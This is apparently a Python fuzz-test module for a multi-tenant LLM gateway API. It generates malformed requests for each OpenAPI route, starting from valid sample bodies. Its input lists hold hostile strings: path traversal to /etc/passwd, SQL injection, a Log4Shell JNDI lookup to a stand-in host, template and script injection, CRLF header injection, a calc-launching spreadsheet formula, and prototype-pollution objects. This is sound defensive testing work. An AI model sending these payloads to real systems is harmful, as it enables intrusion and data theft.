"""Requests that nobody means well with: a right one of each route, bent in one or two places, the same ones each time."""

import json
import random
from collections.abc import Iterator
from copy import deepcopy
from dataclasses import dataclass
from typing import Any
from urllib.parse import quote

from infra.openapi.__main__ import DATA

DOCUMENT = json.loads((DATA / "openapi.json").read_text(encoding="utf-8"))
ROUTES: list[tuple[str, str, dict[str, Any]]] = [
    (method.upper(), path, operation)
    for path, methods in DOCUMENT["paths"].items()
    for method, operation in methods.items()
]
CHAT = {
    "model": "gpt-4o",
    "messages": [
        {"role": "system", "content": "You book visits."},
        {
            "role": "user",
            "content": [
                {"type": "text", "text": "Who can come?"},
                {"type": "image_url", "image_url": {"url": "https://e.org/a.png"}},
            ],
        },
    ],
    "max_tokens": 50,
    "temperature": 0.5,
    "tools": [{"type": "function", "function": {"name": "book", "parameters": {"type": "object", "properties": {}}}}],
    "response_format": {"type": "json_schema", "json_schema": {"name": "a", "schema": {"type": "object"}}},
    "metadata": {"agent": "dispatch"},
    "stream": False,
}
BODIES: dict[str, Any] = {
    "/v1/chat/completions": CHAT,
    "/v1/responses": {
        "model": "gpt-4o",
        "input": [{"role": "user", "content": [{"type": "input_text", "text": "Who can come?"}]}],
        "max_output_tokens": 50,
        "store": False,
        "metadata": {"agent": "dispatch"},
    },
    "/v1/embeddings": {"model": "text-embedding-3-small", "input": ["Who can come?", "And when?"], "dimensions": 256},
    "/api/chat": {
        "tenantId": "acme-hvac",
        "model": "gpt-4o",
        "messages": CHAT["messages"],
        "maxOutputTokens": 50,
        "metadata": {"agent": "dispatch"},
    },
    "/api/cost/check": {
        "tenantId": "acme-hvac",
        "model": "gpt-4o-mini",
        "inputTokens": 10,
        "maxOutputTokens": 10,
        "hold": True,
    },
    "/api/cost/record": {
        "tenantId": "acme-hvac",
        "recordId": "r-1",
        "costUsd": 0.25,
        "model": "gpt-4o",
        "metadata": {"agent": "dispatch"},
    },
    "/api/cost/corrections": {
        "tenantId": "acme-hvac",
        "correctionId": "c-1",
        "reason": "billed twice",
        "amountUsd": 0.1,
    },
    "/api/connections": {
        "tenantId": "acme-hvac",
        "servicetitanTenantId": "1001",
        "clientId": "cid.mine",
        "clientSecret": "cs2.mine",
    },
    "/api/connections/{connectionId}": {"tenantId": "acme-hvac", "paused": True},
    "/api/keys": {"role": "tenant", "tenantId": "acme-hvac", "name": "office"},
    "/api/cost/budget/{tenantId}": {
        "dailyBudgetUsd": 10,
        "monthlyBudgetUsd": 100,
        "softCap": 0.8,
        "timezone": "America/Chicago",
    },
    "/api/cost/budget/{tenantId}/raises": {"dailyUsd": 1, "until": "2030-01-01T00:00:00Z", "reason": "storm"},
}
IDS = {"tenantId": "acme-hvac", "holdId": "2026-11.24.aaaaaaaaaaaa", "raiseId": "abcdefghijkl", "keyId": "abcdefghijkl",
       "breakerId": "model:gpt-4o", "modelId": "gpt-4o", "connectionId": "production-1001"}  # fmt: skip
WORDS = [
    "", " ", "a" * 70_000, "\x00", "\ud83d", "\u202eevil", "../../etc/passwd", "%00", "%2e%2e%2f", "' OR '1'='1", "${jndi:ldap://e.org/a}",
    "{{7*7}}", "<script>", "TENANT#acme-hvac", "acme-hvac#x", "ACME-HVAC", "*", "null", "-1", "NaN", "1e999", "9" * 400, "2026-13-45",
    "2026-11-30T25:00:00Z", "0001-01-01", "9999-12-31T23:59:59+14:00", "Mars/Olympus", "\r\nx-injected: 1", "аcme-hvac",
    "=cmd|' /C calc'!A0",
]  # fmt: skip
VALUES: list[Any] = [
    None, True, False, 0, -1, 2**31, 2**63, 10**30, -(10**30), 0.1, 1e-30, 1e300, [], {}, [[]], {"": {}}, [None] * 300,
    {"__proto__": {"role": "admin"}}, {"$ne": 1}, {"S": "x"}, [[[[[[[[]]]]]]]], *WORDS,
]  # fmt: skip
HEADERS = ("x-tollgate-tenant", "idempotency-key", "if-match", "accept", "content-type", "content-encoding", "x-request-id",
           "x-tollgate-agent", "x-tollgate-run-id", "x-amzn-trace-id", "transfer-encoding")  # fmt: skip


@dataclass(frozen=True, slots=True, kw_only=True)
class Request:
    method: str
    path: str
    query: dict[str, str]
    headers: dict[str, str]
    body: str | None
    path_parameters: dict[str, str]


def bent(method: str, path: str, operation: dict[str, Any], *, count: int) -> Iterator[Request]:
    """The right one, and so many of it."""
    chosen = random.Random(f"{method} {path}")
    named = [each["name"] for each in operation.get("parameters", []) if each["in"] == "query"]
    places = (
        ["header"]
        + ["body"] * 4 * ("requestBody" in operation)
        + ["query"] * 2 * bool(named)
        + ["path"] * 2 * ("{" in path)
    )
    for number in range(count):
        ids, query, headers = dict(IDS), dict[str, str](), {"Content-Type": "application/json"}
        if path.startswith("/v1/"):
            headers["x-tollgate-tenant"] = IDS["tenantId"]
        body = json.dumps(BODIES[path]) if path in BODIES and "requestBody" in operation else None
        for place in chosen.choices(places, k=chosen.choice((1, 1, 2)) if number else 0):
            match place:
                case "body":
                    body = _bent_body(BODIES[path], chosen)
                case "query":
                    query[chosen.choice([*named, "tenantId", "limit"])] = chosen.choice(WORDS)
                case "path":
                    ids[chosen.choice(list(IDS))] = chosen.choice(WORDS)
                case _:
                    headers[chosen.choice(HEADERS)] = chosen.choice(WORDS)
        yield Request(
            method=method,
            path=_filled(path, ids),
            query=query,
            headers=headers,
            body=body,
            path_parameters={name: value for name, value in ids.items() if f"{{{name}}}" in path},
        )


def _filled(path: str, ids: dict[str, str]) -> str:
    for name, value in ids.items():
        path = path.replace(f"{{{name}}}", quote(value, safe="", errors="replace"))
    return path


def _bent_body(right: Any, chosen: random.Random) -> str:
    if chosen.random() < 0.2:
        return _bent_text(json.dumps(right), chosen)
    body = deepcopy(right)
    for _ in range(chosen.choice((1, 1, 2, 3))):
        parent, key = chosen.choice(list(_nodes(body)))
        match chosen.randrange(4):
            case 0 if isinstance(parent, dict):
                parent[chosen.choice(["tenantId", "tenant_id", "role", "unknown", *WORDS])] = chosen.choice(VALUES)
            case 1 if isinstance(parent, dict):
                parent.pop(key, None)
            case _ if isinstance(parent, dict) or key < len(parent):
                parent[key] = deepcopy(chosen.choice(VALUES))
            case _:
                pass
        if not list(_nodes(body)):
            break
    return json.dumps(body)


def _nodes(value: Any) -> Iterator[tuple[Any, Any]]:
    pairs = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
    for key, each in list(pairs):
        yield value, key
        yield from _nodes(each)


def _bent_text(text: str, chosen: random.Random) -> str:
    at = chosen.randrange(len(text))
    match chosen.randrange(4):
        case 0:
            return text[:at]
        case 1:
            return text[:at] + chosen.choice('{}[]",:\\\x00\x7f') + text[at:]
        case 2:
            return text[:at] + text[at + 1 :]
        case _:
            return text * 2
